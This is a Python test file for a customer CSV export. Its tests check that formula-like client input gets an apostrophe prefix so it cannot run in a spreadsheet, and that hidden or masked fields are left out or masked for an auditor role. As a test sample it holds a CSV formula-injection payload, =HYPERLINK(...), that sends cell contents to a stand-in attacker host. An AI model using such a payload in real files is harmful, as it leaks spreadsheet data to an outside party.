"""``write_customers_csv`` on every storage kind: what a client typed can never run as a formula."""

from __future__ import annotations

import csv
import io

from adapters.clock import ManualClock
from adapters.files.customer_export import write_customers_csv
from adapters.ids import SequentialIdGenerator
from application.custom_fields.commands import DefineCustomField, NewCustomField
from application.customers.commands import ContactParser, CreateCustomer, NewCustomer
from application.customers.queries import GetCustomers, ListCustomers
from application.customers.views import CustomerFilter
from application.principal import Principal
from domain.access.roles import FieldAccess, Resource, Role, RoleDefinition
from domain.custom_fields import FieldType, ObjectType
from tests.contracts.backend import StorageBackend

SYSTEM = Principal.system()
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FIELDS = {
    "balance": FieldType.DECIMAL,
    "score": FieldType.NUMBER,
    "note": FieldType.TEXT,
    "code": FieldType.TEXT,
}


def exported(backend: StorageBackend) -> str:
    output = io.StringIO()
    write_customers_csv(
        output,
        ListCustomers(backend.customers, backend.custom_fields),
        GetCustomers(backend.customers),
        SYSTEM,
        CustomerFilter(),
        FIELDS,
    )
    return output.getvalue()


def test_formula_like_names_and_text_fields_are_neutralised_but_typed_numbers_are_not(
    backend: StorageBackend, clock: ManualClock, ids: SequentialIdGenerator
) -> None:
    define = DefineCustomField(backend.uow, clock, ids)
    for key, kind in FIELDS.items():
        define(
            SYSTEM,
            NewCustomField(object_type=ObjectType.CUSTOMER, key=key, label=key, field_type=kind),
        )
    create = CreateCustomer(backend.uow, clock, ids, ContactParser(default_region="GB"))
    create(
        SYSTEM,
        NewCustomer(
            first_name=HYPERLINK,
            last_name="@SUM(A1:A9)",
            email="ada@example.com",
            phone="020 7183 8750",
            custom_fields={"balance": "-12.50", "score": -3, "note": "\tcmd", "code": "-2+3"},
        ),
    )

    text = exported(backend)
    [row] = csv.DictReader(io.StringIO(text))
    assert (row["first_name"], row["last_name"]) == ("'" + HYPERLINK, "'@SUM(A1:A9)")
    assert (row["custom:note"], row["custom:code"]) == ("'\tcmd", "'-2+3")
    assert row["phone"] == "'+442071838750"
    assert (row["custom:balance"], row["custom:score"], row["version"]) == ("-12.50", "-3", "1")
    # Neutralised cells are quoted; the typed numbers are bare, as a spreadsheet reads numbers.
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in text
    assert text.splitlines()[1].endswith(',1,-12.50,-3,"\'\tcmd","\'-2+3"')


def test_an_export_leaves_out_hidden_columns_and_masks_masked_ones(
    backend: StorageBackend, clock: ManualClock, ids: SequentialIdGenerator
) -> None:
    define = DefineCustomField(backend.uow, clock, ids)
    for key, kind in FIELDS.items():
        define(
            SYSTEM,
            NewCustomField(object_type=ObjectType.CUSTOMER, key=key, label=key, field_type=kind),
        )
    create = CreateCustomer(backend.uow, clock, ids, ContactParser(default_region="GB"))
    create(
        SYSTEM,
        NewCustomer(
            first_name="Ada",
            email="ada@example.com",
            phone="020 7183 8750",
            custom_fields={"note": "owes us", "code": "A7"},
        ),
    )
    role = RoleDefinition(
        "auditor",
        "Auditor",
        Role.ANALYST.permissions,
        field_rules={
            (Resource.CUSTOMERS, "email"): FieldAccess.MASKED,
            (Resource.CUSTOMERS, "phone"): FieldAccess.HIDDEN,
            (Resource.CUSTOMERS, "custom_fields.note"): FieldAccess.HIDDEN,
            (Resource.CUSTOMERS, "custom_fields.code"): FieldAccess.MASKED,
        },
    )
    auditor = Principal(actor_id="auditor-1", role=role, name="Auditor")
    output = io.StringIO()
    write_customers_csv(
        output,
        ListCustomers(backend.customers, backend.custom_fields),
        GetCustomers(backend.customers),
        auditor,
        CustomerFilter(),
        FIELDS,
    )

    [row] = csv.DictReader(io.StringIO(output.getvalue()))
    assert "phone" not in row and "custom:note" not in row
    assert (row["first_name"], row["email"], row["custom:code"]) == (
        "Ada",
        "a•••@example.com",
        "A•••",
    )
    assert "owes us" not in output.getvalue() and "8750" not in output.getvalue()
